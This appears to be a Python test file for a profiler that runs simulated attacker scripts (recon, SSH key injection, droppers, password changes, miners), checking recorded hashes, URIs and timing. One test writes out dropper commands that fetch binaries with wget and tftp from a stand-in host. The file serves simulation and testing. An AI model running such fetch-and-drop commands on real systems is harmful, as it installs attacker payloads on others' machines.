"""Tests for the script profiler (single real execution per script)."""

import gc
import types

import pytest

from repro.agents.scripts import ScriptKind, ScriptTemplate, build_script
from repro.workload.script_runner import ScriptRunner


@pytest.fixture(scope="module")
def runner():
    return ScriptRunner()


class TestProfiles:
    def test_recon_profile(self, runner):
        profile = runner.profile(build_script(ScriptKind.RECON, token="r1"))
        assert profile.commands
        assert profile.hashes == ()
        assert profile.uris == ()
        assert not profile.creates_files
        assert profile.exec_seconds > 0

    def test_key_inject_one_hash(self, runner):
        profile = runner.profile(build_script(ScriptKind.KEY_INJECT, token="K1"))
        assert len(profile.hashes) == 1
        assert profile.primary_hash == profile.hashes[0]
        assert profile.uris == ()

    def test_key_inject_token_specific_hash(self, runner):
        a = runner.profile(build_script(ScriptKind.KEY_INJECT, token="KA"))
        b = runner.profile(build_script(ScriptKind.KEY_INJECT, token="KB"))
        assert a.hashes != b.hashes

    def test_dropper_profile(self, runner):
        profile = runner.profile(
            build_script(ScriptKind.DROPPER, token="D1", dropper_host="198.51.100.77")
        )
        assert profile.uris  # remote fetch recorded
        assert len(set(profile.hashes)) == 1  # one campaign binary hash
        assert profile.download_seconds > 0
        # Downloads lengthen the session (timeout-reset behaviour).
        assert profile.exec_seconds > len(build_script(
            ScriptKind.DROPPER, token="D1").lines) * 2.5 - 1e-6

    def test_dropper_fallback_transports_share_hash(self, runner):
        profile = runner.profile(
            build_script(ScriptKind.DROPPER, token="D2", dropper_host="198.51.100.78")
        )
        # wget and the tftp fallback both fire; the payload hash is shared.
        assert len(set(profile.hashes)) == 1

    def test_chpasswd_token_specific_shadow(self, runner):
        a = runner.profile(build_script(ScriptKind.CHPASSWD, token="CA"))
        b = runner.profile(build_script(ScriptKind.CHPASSWD, token="CB"))
        assert a.hashes and b.hashes
        assert set(a.hashes).isdisjoint(b.hashes)

    def test_file_token_singleton_hash(self, runner):
        a = runner.profile(build_script(ScriptKind.FILE_TOKEN, token="T-1"))
        b = runner.profile(build_script(ScriptKind.FILE_TOKEN, token="T-2"))
        assert len(a.hashes) == 1
        assert a.hashes != b.hashes

    def test_miner_profile(self, runner):
        profile = runner.profile(build_script(ScriptKind.MINER, token="M1"))
        assert profile.uris
        assert profile.hashes

    def test_cache_returns_same_object(self, runner):
        t = build_script(ScriptKind.RECON, token="cache-me")
        assert runner.profile(t) is runner.profile(t)

    def test_deterministic_across_runners(self):
        a = ScriptRunner().profile(build_script(ScriptKind.KEY_INJECT, token="DET"))
        b = ScriptRunner().profile(build_script(ScriptKind.KEY_INJECT, token="DET"))
        assert a.hashes == b.hashes
        assert a.commands == b.commands


def _reachable_bytes(root):
    """Every ``bytes`` object reachable from ``root`` (types and modules
    are not followed: they lead to the whole interpreter)."""
    found, seen, stack = [], set(), [root]
    while stack:
        obj = stack.pop()
        if id(obj) in seen:
            continue
        seen.add(id(obj))
        if isinstance(obj, bytes):
            found.append(obj)
        elif not isinstance(obj, (str, type, types.ModuleType,
                                  types.FunctionType)):
            stack.extend(gc.get_referents(obj))
    return found


#: Payload server shared by the campaigns below.
HOST = "198.51.100.66"


def _campaign_scripts(n=50):
    """``n`` dropper and miner scripts served from one host."""
    return [
        build_script(ScriptKind.DROPPER if i % 2 else ScriptKind.MINER,
                     token=f"c{i}", dropper_host=HOST)
        for i in range(n)
    ]


class TestPayloadLifetime:
    def test_runner_keeps_no_payload_bytes(self):
        runner = ScriptRunner()
        for template in _campaign_scripts(4):
            assert template.payload is not None
            runner.profile(template)
        assert _reachable_bytes(runner) == []

    @pytest.mark.parametrize("target", [
        build_script(ScriptKind.DROPPER, token="c7", dropper_host=HOST),
        build_script(ScriptKind.MINER, token="c8", dropper_host=HOST),
        # No payload of its own, but it fetches what campaign c3 serves:
        # it must get the resolver's default bytes, not c3's binary.
        ScriptTemplate(kind=ScriptKind.FILELESS, token="probe", lines=[
            f"cd /tmp; wget http://{HOST}/bins/arm7.c3",
            f"tftp -g -r c4.sh {HOST}",
        ]),
    ], ids=["dropper", "miner", "peer-uri"])
    def test_profile_is_independent_of_earlier_profiles(self, target):
        first = ScriptRunner().profile(target)
        runner = ScriptRunner()
        for template in _campaign_scripts(50):
            runner.profile(template)
        assert runner.profile(target) == first
